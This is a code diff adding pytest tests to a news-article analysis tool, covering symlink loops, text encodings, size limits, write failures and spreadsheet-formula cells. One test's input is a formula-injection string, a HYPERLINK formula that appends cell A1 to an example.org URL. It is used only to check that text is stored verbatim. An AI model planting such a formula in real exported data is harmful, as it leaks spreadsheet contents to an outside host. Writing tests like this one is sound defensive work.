@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import json
 import re
+import subprocess
+import sys
 from pathlib import Path
 
 import nbformat
@@ -324,3 +326,128 @@ def test_a_half_written_article_folder_is_not_current(tmp_path):
     assert not corpus.is_current(out / "story", manifest["key"])
     assert corpus.analyze_corpus([str(folder)], out, workers=1) == 0
     assert sentences.read_bytes() == complete["sentences.csv"]
+
+
+# --------------------------------------------------------------------------------------------------- workers
+def articles_folder(folder: Path, n: int, extra: dict[str, str] | None = None) -> Path:
+    """A folder of `n` small articles (a00.txt …) and `extra` ones, by file name."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for i in range(n):
+        (folder / f"a{i:02d}.txt").write_text(
+            f"date 2021-03-{i + 1:02d} Story {i}\n\nMayor Ann Lee of Leeds spoke on Monday about bridge {i}.",
+            encoding="utf-8",
+        )
+    for name, text in (extra or {}).items():
+        (folder / name).write_text(text, encoding="utf-8")
+    return folder
+
+
+# ---------------------------------------------------------------------------------------- inputs and file system
+def analyze_cli(*inputs: Path, out: Path, capsys) -> tuple[int, list[str]]:
+    """`python -m newsframe analyze INPUTS --out OUT --workers 1` in this process: exit code and stderr lines."""
+    from newsframe import cli
+
+    capsys.readouterr()
+    code = cli.main(["analyze", *map(str, inputs), "--out", str(out), "--workers", "1"])
+    return code, capsys.readouterr().err.splitlines()
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links")
+def test_symbolic_link_loops_and_broken_links_are_one_line_each(tmp_path, capsys):
+    folder = articles_folder(tmp_path / "in", 1)
+    (folder / "loop.txt").symlink_to(folder / "loop.txt")
+    (folder / "gone.txt").symlink_to(tmp_path / "deleted.txt")
+    code, err = analyze_cli(folder / "loop.txt", out=tmp_path / "o1", capsys=capsys)
+    assert code == 1 and err == [f"error: {folder / 'loop.txt'}: symbolic link loop"]
+    code, err = analyze_cli(folder, out=tmp_path / "o2", capsys=capsys)
+    assert code == 1 and sorted(err) == [
+        f"error: {folder / 'gone.txt'}: broken symbolic link (to {tmp_path / 'deleted.txt'}, which does not exist)",
+        f"error: {folder / 'loop.txt'}: symbolic link loop",
+    ]
+    assert (tmp_path / "o2" / "a00" / "sentences.csv").exists()
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
+def test_utf16_and_utf32_text_with_a_byte_order_mark_is_read(encoding, tmp_path):
+    import codecs
+
+    bom = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
+    path = tmp_path / "story.txt"
+    path.write_bytes(bom + SMALL.replace("Leeds", "Düsseldorf").encode(encoding))
+    article = load_article(path)
+    assert article.title == "Mayor speaks" and article.body[0].text.endswith("of Düsseldorf spoke on Monday.")
+    path.write_bytes(codecs.BOM_UTF16_LE + "a\x00b".encode("utf-16-le"))
+    with pytest.raises(Exception, match="binary file"):
+        load_article(path)
+
+
+def test_an_article_over_the_size_limit_is_one_line(tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("NEWSFRAME_MAX_ARTICLE_MB", "0.01")  # 10 KB
+    big = tmp_path / "big.txt"
+    big.write_text("date 2021-01-01 Big\n\n" + "The council met on Monday. " * 1000, encoding="utf-8")
+    record = tmp_path / "batch.jsonl"
+    record.write_text(
+        json.dumps({"id": "small", "text": "Ann Lee spoke."}) + "\n" + json.dumps({"id": "big", "text": "x " * 6000}),
+        encoding="utf-8",
+    )
+    code, err = analyze_cli(big, record, out=tmp_path / "out", capsys=capsys)
+    assert code == 1
+    assert err == [
+        f"error: {big}: too large for one article (0.0 MB; the limit is 0.01 MB, which NEWSFRAME_MAX_ARTICLE_MB "
+        "raises)".replace("0.0 MB;", f"{big.stat().st_size / 1e6:.1f} MB;"),
+        f"error: {record}:2: too large for one article (0.0 MB; the limit is 0.01 MB, which "
+        "NEWSFRAME_MAX_ARTICLE_MB raises)",
+    ]
+    assert (tmp_path / "out" / "small" / "sentences.csv").exists()
+    monkeypatch.setenv("NEWSFRAME_MAX_ARTICLE_MB", "lots")
+    with pytest.raises(SystemExit) as stopped:
+        analyze_cli(big, out=tmp_path / "out", capsys=capsys)
+    assert stopped.value.code == 2
+
+
+def test_a_write_that_fails_names_the_file(tmp_path, monkeypatch):
+    import errno
+
+    from newsframe import io
+
+    def full(*args, **kwargs):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
+    with pytest.raises(OSError) as failed:
+        io.write_csv(tmp_path / "out" / "table.csv", pd.DataFrame({"a": [1]}))
+    assert failed.value.filename == str(tmp_path / "out" / "table.csv")
+    assert str(failed.value) == f"[Errno 28] No space left on device: '{tmp_path / 'out' / 'table.csv'}'"
+    assert list((tmp_path / "out").iterdir()) == []
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="a file size limit (RLIMIT_FSIZE)")
+def test_a_full_disk_names_the_file_that_could_not_be_written(tmp_path):
+    folder = articles_folder(tmp_path / "in", 0, {"story.txt": SMALL + "\n\n" + "Ann Lee spoke again. " * 200})
+    limit = 3000  # bytes a file may grow to, as if the disk filled up there
+    done = subprocess.run(
+        [sys.executable, "-m", "newsframe", "analyze", str(folder), "--out", str(tmp_path / "out"), "--workers", "1"],
+        capture_output=True,
+        text=True,
+        preexec_fn=lambda: __import__("resource").setrlimit(__import__("resource").RLIMIT_FSIZE, (limit, limit)),
+    )
+    assert done.returncode == 1 and "Traceback" not in done.stderr
+    line = done.stderr.splitlines()[0]
+    assert re.fullmatch(rf"error: {re.escape(str(folder / 'story.txt'))}: OSError: .*File too large: '.*\.csv'", line)
+    assert not list((tmp_path / "out").rglob("*.tmp"))
+
+
+def test_spreadsheet_formula_cells_are_kept_as_the_article_writes_them(tmp_path, capsys):
+    """The tables are data: a cell holds the article's text exactly, `=`, `+`, `-` or `@` first included, so that
+    offsets slice it and pandas reads it back unchanged (the data dictionary says how to open them in a
+    spreadsheet without running such a cell as a formula)."""
+    cells = ['=HYPERLINK("http://example.org/?"&A1,"Click")', "+1 555 0100 is the number to call.", "-5 percent."]
+    cells.append("@SUM(1+1) is what the sign said.")
+    folder = articles_folder(tmp_path / "in", 0, {"formulas.txt": "date 2021-01-01 Signs\n\n" + "\n\n".join(cells)})
+    assert analyze_cli(folder, out=tmp_path / "out", capsys=capsys)[0] == 0
+    paragraphs = pd.read_csv(tmp_path / "out" / "formulas" / "paragraphs.csv", keep_default_na=False)
+    assert paragraphs["text"].tolist()[1:] == cells
+    sentences = pd.read_csv(tmp_path / "out" / "formulas" / "sentences.csv", keep_default_na=False)
+    texts = dict(zip(paragraphs["paragraph"], paragraphs["text"]))
+    for row in sentences.itertuples():
+        assert texts[row.paragraph][row.start_char : row.end_char] == row.text
